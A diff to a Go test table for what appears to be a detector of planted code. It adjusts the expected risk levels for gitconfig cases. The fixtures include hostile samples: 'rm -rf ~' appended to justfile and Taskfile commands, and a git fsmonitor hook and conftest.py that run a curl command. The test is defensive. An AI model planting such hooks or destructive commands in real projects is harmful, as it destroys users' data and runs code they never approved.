@@ -81,8 +81,8 @@ func TestPlantedCode(t *testing.T) {
 		{"an Edit of a justfile body", "Edit", "justfile", edit("    go test", "    go test\n    rm -rf ~"), risk.Critical, ""},
 		{"an Edit of a Taskfile's cmds", "Edit", "Taskfile.yml", edit("      - go test", "      - go test\n      - rm -rf ~"), risk.Critical, ""},
 		{"core.fsmonitor in the XDG git config", "", "~/.config/git/config", w("[core]\n\tfsmonitor = \"" + curl + "; false\"\n"), risk.Critical, ""},
-		{"include.path", "", "~/.gitconfig", w("[include]\n\tpath = ~/x.cfg\n"), risk.High, risk.High},
-		{"an ordinary gitconfig", "", "~/.gitconfig", w("[user]\n\tname = A\n[core]\n\tfsmonitor = true\n"), risk.Medium, risk.High}, // a home dotfile (high, but not under the test's /tmp)
+		{"include.path", "", "~/.gitconfig", w("[include]\n\tpath = ~/x.cfg\n"), risk.Critical, ""},                         // git's global configuration (issue 29)
+		{"an ordinary gitconfig", "", "~/.gitconfig", w("[user]\n\tname = A\n[core]\n\tfsmonitor = true\n"), risk.High, ""}, // critical as git's global configuration (issue 29), not as planted code
 		// other languages
 		{"conftest.py", "", "tests/conftest.py", w("import os\nos.system('" + curl + "')\n"), risk.Critical, ""},
 		{"an ordinary test file", "", "tests/test_api.py", w("import os, json\nimport requests\n\ndef test_get(requests_mock):\n    requests_mock.get('https://api.example.com/x', json={})\n    assert requests.get('https://api.example.com/x').json() == {}\n    with open(os.path.join('tests', 'x.json')) as f:\n        json.load(f)\n"), risk.Medium, risk.Medium},
